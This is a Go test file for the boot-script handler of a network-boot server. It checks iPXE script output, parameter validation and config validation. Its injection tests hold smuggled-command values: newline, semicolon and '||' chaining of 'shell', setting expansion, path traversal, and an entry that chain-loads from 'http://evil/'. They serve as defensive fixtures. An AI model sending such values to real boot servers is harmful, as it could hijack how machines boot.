package boot_test

import (
	"context"
	"encoding/json"
	"github.com/imprint-osd/imprint/internal/golden"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/imprint-osd/imprint/internal/boot"
)

const fingerprint = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

func testConfig() boot.Config {
	c := boot.DefaultConfig()
	c.PublicURL = "https://imprint.example:7281"
	c.BootURL = "http://10.0.2.2:7282"
	c.CAFingerprint = fingerprint
	return c
}

// machines is a MachineLookup keyed by MAC.
type machines map[string]boot.MachineBoot

func (m machines) Machine(_ context.Context, mac, _ string) (boot.MachineBoot, bool) {
	mb, ok := m[mac]
	return mb, ok
}

func newHandler(t *testing.T, cfg boot.Config, files boot.FileSource, ms boot.MachineLookup) *boot.Handler {
	t.Helper()
	if files == nil {
		files = boot.DirFileSource(t.TempDir())
	}
	h, err := boot.NewHandler(cfg, files, ms, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatalf("NewHandler: %v", err)
	}
	return h
}

func get(t *testing.T, h http.Handler, target string) *httptest.ResponseRecorder {
	t.Helper()
	w := httptest.NewRecorder()
	h.ServeHTTP(w, httptest.NewRequest(http.MethodGet, target, nil))
	return w
}

var (
	labelRE = regexp.MustCompile(`(?m)^:(\S+)$`)
	gotoRE  = regexp.MustCompile(`goto (\S+)`)
)

// checkScript applies checks that hold for every script we serve.
func checkScript(t *testing.T, script string) {
	t.Helper()
	if !strings.HasPrefix(script, "#!ipxe\n") {
		t.Errorf("script does not start with #!ipxe:\n%s", script)
	}
	labels := map[string]bool{}
	for _, m := range labelRE.FindAllStringSubmatch(script, -1) {
		labels[m[1]] = true
	}
	for _, m := range gotoRE.FindAllStringSubmatch(script, -1) {
		if target := m[1]; target != "${selected}" && !labels[target] {
			t.Errorf("goto %s has no label :%s", target, target)
		}
	}
}

func TestScriptsGolden(t *testing.T) {
	const q = "/ipxe?mac=52:54:00:AB:cd:01&uuid=4C4C4544-0042-3010-8052-B4C04F4E4432&arch=x86_64&platform="
	noMenu := testConfig()
	noMenu.Menu = false
	args := testConfig()
	args.KernelArgs = "ip=dhcp  imprint.debug=1 loglevel=7"
	forever := testConfig()
	forever.MenuTimeout = 0
	shell := testConfig()
	shell.Menu, shell.DefaultEntry = false, boot.EntryShell
	deployed := machines{"52-54-00-ab-cd-01": {DefaultEntry: boot.EntryLocal, KernelArgs: "imprint.trace=1"}}

	tests := []struct {
		golden string
		cfg    boot.Config
		ms     boot.MachineLookup
		target string
	}{
		{"stage1.ipxe", testConfig(), nil, "/boot.ipxe"},
		{"stage2-menu-efi.ipxe", testConfig(), nil, q + "efi"},
		{"stage2-menu-pcbios.ipxe", testConfig(), nil, q + "pcbios"},
		{"stage2-menu-no-timeout.ipxe", forever, nil, q + "efi"},
		{"stage2-nomenu.ipxe", noMenu, nil, q + "efi"},
		{"stage2-nomenu-shell.ipxe", shell, nil, q + "pcbios"},
		{"stage2-override.ipxe", testConfig(), deployed, q + "efi"},
		{"stage2-override-nomenu.ipxe", noMenu, deployed, q + "pcbios"},
		{"stage2-unknown-machine.ipxe", testConfig(), deployed, "/ipxe?mac=52-54-00-00-00-02&uuid=&arch=arm64&platform=efi"},
		{"stage2-kernelargs.ipxe", args, nil, q + "efi"},
		{"error-bad-mac.ipxe", testConfig(), nil, "/ipxe?mac=nonsense&arch=x86_64&platform=efi"},
	}
	for _, tt := range tests {
		t.Run(tt.golden, func(t *testing.T) {
			w := get(t, newHandler(t, tt.cfg, nil, tt.ms), tt.target)
			if w.Code != http.StatusOK {
				t.Fatalf("status %d, body %q", w.Code, w.Body)
			}
			if ct := w.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") {
				t.Errorf("Content-Type %q", ct)
			}
			checkScript(t, w.Body.String())
			golden.Check(t, tt.golden, []byte(w.Body.String()))
		})
	}
}

// TestStage2Query checks parameter validation and normalisation through
// the rendered kernel line.
func TestStage2Query(t *testing.T) {
	h := newHandler(t, testConfig(), nil, nil)
	tests := []struct {
		query string
		want  string // substring of the script
	}{
		{"mac=52-54-00-AB-CD-EF&arch=x86_64&platform=efi", "imprint.mac=52-54-00-ab-cd-ef"},
		{"mac=52:54:00:ab:cd:ef&arch=i386&platform=pcbios", "/images/i386/vmlinuz"},
		{"mac=52:54:00:ab:cd:ef&uuid=4C4C454400423010 8052B4C04F4E4432&arch=arm64&platform=efi", "parameter uuid must be"},
		{"mac=52:54:00:ab:cd:ef&uuid=4C4C454400423010A052B4C04F4E4432&arch=arm64&platform=efi", "4c4c4544-0042-3010-a052-b4c04f4e4432"},
		{"mac=52:54:00:ab:cd:ef&uuid=00000000-0000-0000-0000-000000000000&arch=x86_64&platform=efi", "(x86_64, efi)\n"},
		{"mac=52:54:00:ab:cd:ef&uuid=FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF&arch=x86_64&platform=efi", "(x86_64, efi)\n"},
		{"arch=x86_64&platform=efi", "parameter mac must be a 48-bit MAC address such as 52-54-00-12-34-56 (it is missing)"},
		{"mac=52-54-00-ab-cd-ef-01-02&arch=x86_64&platform=efi", "parameter mac must be"},
		{"mac=52-54:00-ab-cd-ef&arch=x86_64&platform=efi", "parameter mac must be"},
		{"mac=52-54-00-ab-cd-ef&arch=arm32&platform=efi", "parameter arch must be x86_64, i386 or arm64"},
		{"mac=52-54-00-ab-cd-ef&arch=x86_64", "parameter platform must be efi or pcbios"},
		{"mac=52-54-00-ab-cd-ef&mac=52-54-00-ab-cd-00&arch=x86_64&platform=efi", "parameter mac is given 2 times"},
		{"mac=52-54-00-ab-cd-ef&arch=x86_64&platform=efi&serial=" + strings.Repeat("x", 300), "imprint.mac=52-54-00-ab-cd-ef"},
	}
	for _, tt := range tests {
		t.Run(tt.query, func(t *testing.T) {
			w := get(t, h, "/ipxe?"+strings.ReplaceAll(tt.query, " ", "%20"))
			checkScript(t, w.Body.String())
			if !strings.Contains(w.Body.String(), tt.want) {
				t.Errorf("script lacks %q:\n%s", tt.want, w.Body)
			}
		})
	}
}

// TestStage2Injection sends values that would run iPXE commands or expand
// settings if they reached the script, and checks none of them does.
func TestStage2Injection(t *testing.T) {
	const ok = "mac=52-54-00-ab-cd-ef&uuid=&arch=x86_64&platform=efi"
	payloads := map[string]string{
		"mac semicolon":     "mac=aa;shell&arch=x86_64&platform=efi",
		"mac newline":       "mac=52-54-00-ab-cd-ef%0Ashell&arch=x86_64&platform=efi",
		"mac settings":      "mac=${net0/mac}&arch=x86_64&platform=efi",
		"mac and-and":       "mac=52-54-00-ab-cd-ef%20%26%26%20shell&arch=x86_64&platform=efi",
		"uuid newline":      "mac=52-54-00-ab-cd-ef&uuid=x%0Ashell&arch=x86_64&platform=efi",
		"uuid settings":     "mac=52-54-00-ab-cd-ef&uuid=${root-path}&arch=x86_64&platform=efi",
		"arch newline":      "mac=52-54-00-ab-cd-ef&arch=x86_64%0Ashell&platform=efi",
		"arch traversal":    "mac=52-54-00-ab-cd-ef&arch=../../etc&platform=efi",
		"platform CR":       "mac=52-54-00-ab-cd-ef&arch=x86_64&platform=efi%0Dshell",
		"platform settings": "mac=52-54-00-ab-cd-ef&arch=x86_64&platform=${platform}",
		"serial newline":    ok + "&serial=x%0Ashell%0A${net0/ip}",
		"serial or-or":      ok + "&serial=%7C%7C%20shell",
	}
	h := newHandler(t, testConfig(), nil, nil)
	clean := get(t, h, "/ipxe?"+ok).Body.String()
	for name, query := range payloads {
		t.Run(name, func(t *testing.T) {
			got := get(t, h, "/ipxe?"+query).Body.String()
			checkScript(t, got)
			if strings.HasPrefix(query, ok) {
				if diff := cmp.Diff(clean, got); diff != "" {
					t.Errorf("serial changed the script (-clean +got):\n%s", diff)
				}
				return
			}
			checkErrorScript(t, got, "parameter ")
		})
	}
}

// TestOverrideInjection: a stored override with unsafe kernel arguments or
// an unknown entry is refused with an error script, not rendered.
func TestOverrideInjection(t *testing.T) {
	const q = "/ipxe?mac=52-54-00-ab-cd-ef&arch=x86_64&platform=efi"
	tests := map[string]struct {
		mb   boot.MachineBoot
		want string
	}{
		"args newline": {boot.MachineBoot{KernelArgs: "quiet\nshell"}, "echo Imprint: the kernel arguments set for 52-54-00-ab-cd-ef are invalid"},
		"args dollar":  {boot.MachineBoot{KernelArgs: "x=${net0/ip}"}, "echo Imprint: the kernel arguments set for 52-54-00-ab-cd-ef are invalid"},
		"args or-or":   {boot.MachineBoot{KernelArgs: "quiet || shell"}, "echo Imprint: the kernel arguments set for 52-54-00-ab-cd-ef are invalid"},
		"entry":        {boot.MachineBoot{DefaultEntry: "shell\nchain http://evil/"}, "echo Imprint: the boot entry set for 52-54-00-ab-cd-ef is invalid"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			h := newHandler(t, testConfig(), nil, machines{"52-54-00-ab-cd-ef": tt.mb})
			got := get(t, h, q).Body.String()
			checkScript(t, got)
			if !strings.Contains(got, tt.want) {
				t.Errorf("script lacks %q:\n%s", tt.want, got)
			}
			checkErrorScript(t, got, "the ")
		})
	}
}

// checkErrorScript checks that script is the fixed error script with one
// message line starting with prefix and free of anything iPXE would
// interpret: so no request value can add or change commands.
func checkErrorScript(t *testing.T, script, prefix string) {
	t.Helper()
	want, err := os.ReadFile(filepath.Join("testdata", "error-bad-mac.ipxe"))
	if err != nil {
		t.Fatal(err)
	}
	wl, gl := strings.Split(string(want), "\n"), strings.Split(script, "\n")
	if len(gl) != len(wl) {
		t.Fatalf("error script has %d lines, want %d:\n%s", len(gl), len(wl), script)
	}
	msg, ok := strings.CutPrefix(gl[1], "echo Imprint: "+prefix)
	if !ok {
		t.Errorf("message line %q does not start with %q", gl[1], "echo Imprint: "+prefix)
	}
	if i := strings.IndexAny(msg, "${}\"'\\&|;#\r\t"); i >= 0 {
		t.Errorf("message line %q has %q", gl[1], msg[i])
	}
	gl[1], wl[1] = "", ""
	if diff := cmp.Diff(wl, gl); diff != "" {
		t.Errorf("error script differs from the fixed one (-want +got):\n%s", diff)
	}
}

func TestConfigValidate(t *testing.T) {
	tests := map[string]struct {
		edit func(*boot.Config)
		want string // substring of the error; empty for valid
	}{
		"valid":                 {func(*boot.Config) {}, ""},
		"fingerprint colons":    {func(c *boot.Config) { c.CAFingerprint = strings.ToUpper(colons(fingerprint)) }, ""},
		"empty entry":           {func(c *boot.Config) { c.DefaultEntry = "" }, ""},
		"public missing":        {func(c *boot.Config) { c.PublicURL = "" }, "PublicURL: required"},
		"public http":           {func(c *boot.Config) { c.PublicURL = "http://x" }, "PublicURL: scheme"},
		"public query":          {func(c *boot.Config) { c.PublicURL = "https://x/?a=b" }, "PublicURL"},
		"public newline":        {func(c *boot.Config) { c.PublicURL = "https://x\nshell" }, "PublicURL: character '\\n'"},
		"public dollar":         {func(c *boot.Config) { c.PublicURL = "https://${ip}" }, "PublicURL: character '$'"},
		"boot no host":          {func(c *boot.Config) { c.BootURL = "http:///x" }, "BootURL"},
		"boot ftp":              {func(c *boot.Config) { c.BootURL = "ftp://x" }, "BootURL: scheme"},
		"fingerprint short":     {func(c *boot.Config) { c.CAFingerprint = "abcd" }, "CAFingerprint"},
		"fingerprint missing":   {func(c *boot.Config) { c.CAFingerprint = "" }, "CAFingerprint"},
		"args quote":            {func(c *boot.Config) { c.KernelArgs = `a="b c"` }, "KernelArgs: character '\"'"},
		"args tab":              {func(c *boot.Config) { c.KernelArgs = "a\tb" }, "KernelArgs"},
		"args too long":         {func(c *boot.Config) { c.KernelArgs = strings.Repeat("a ", 600) }, "more than 1024"},
		"negative timeout":      {func(c *boot.Config) { c.MenuTimeout = -time.Second }, "MenuTimeout"},
		"unknown default entry": {func(c *boot.Config) { c.DefaultEntry = "windows" }, `DefaultEntry: want deploy, local or shell, got "windows"`},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			c := testConfig()
			tt.edit(&c)
			err := c.Validate()
			_, nerr := boot.NewHandler(c, boot.DirFileSource(t.TempDir()), nil, nil)
			if (err == nil) != (nerr == nil) {
				t.Errorf("Validate %v but NewHandler %v", err, nerr)
			}
			switch {
			case tt.want == "" && err != nil:
				t.Errorf("unexpected error: %v", err)
			case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
				t.Errorf("error %v, want it to contain %q", err, tt.want)
			}
		})
	}
}

func colons(hex string) string {
	var parts []string
	for i := 0; i < len(hex); i += 2 {
		parts = append(parts, hex[i:i+2])
	}
	return strings.Join(parts, ":")
}

func TestNewHandlerNilFiles(t *testing.T) {
	if _, err := boot.NewHandler(testConfig(), nil, nil, nil); err == nil || !strings.Contains(err.Error(), "FileSource") {
		t.Errorf("error %v, want one naming FileSource", err)
	}
}

func readAll(t *testing.T, r io.Reader) string {
	t.Helper()
	b, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestStage2LogsMachine: the serial arrives in iPXE's hex form and is
// logged decoded, with the normalised machine identity.
func TestStage2LogsMachine(t *testing.T) {
	var buf strings.Builder
	h, err := boot.NewHandler(testConfig(), boot.DirFileSource(t.TempDir()), nil, slog.New(slog.NewJSONHandler(&buf, nil)))
	if err != nil {
		t.Fatal(err)
	}
	get(t, h, "/ipxe?mac=52-54-00-AB-CD-EF&uuid=&arch=x86_64&platform=efi&serial=53:4e:20:34:32:26:79")
	for _, want := range []string{`"mac":"52-54-00-ab-cd-ef"`, `"serial":"SN 42&y"`, `"entry":"deploy"`} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("log lacks %s:\n%s", want, buf.String())
		}
	}
}

// TestMachineDecision: GET /machine tells a branch relay what this server
// decides for a machine: its override when it has one, "unknown" (the
// defaults) otherwise, and a clear refusal of a malformed query.
func TestMachineDecision(t *testing.T) {
	ms := machines{"52-54-00-ab-cd-01": {DefaultEntry: boot.EntryLocal, KernelArgs: "quiet"}}
	h := newHandler(t, testConfig(), nil, ms)
	for _, tt := range []struct {
		query  string
		status int
		want   boot.MachineDecision
	}{
		{"mac=52:54:00:AB:CD:01", http.StatusOK, boot.MachineDecision{Known: true, DefaultEntry: "local", KernelArgs: "quiet"}},
		{"mac=52-54-00-ab-cd-01&uuid=4C4C4544-0042-3010-8052-B4C04F4E4432", http.StatusOK, boot.MachineDecision{Known: true, DefaultEntry: "local", KernelArgs: "quiet"}},
		{"mac=52:54:00:ab:cd:02", http.StatusOK, boot.MachineDecision{}},
		{"mac=nonsense", http.StatusBadRequest, boot.MachineDecision{}},
	} {
		w := get(t, h, "/machine?"+tt.query)
		if w.Code != tt.status {
			t.Errorf("%s: status %d, want %d: %s", tt.query, w.Code, tt.status, w.Body)
			continue
		}
		if tt.status != http.StatusOK {
			continue
		}
		var got boot.MachineDecision
		if err := json.Unmarshal(w.Body.Bytes(), &got); err != nil {
			t.Fatalf("%s: %v", tt.query, err)
		}
		if got != tt.want {
			t.Errorf("%s: %+v, want %+v", tt.query, got, tt.want)
		}
	}
}
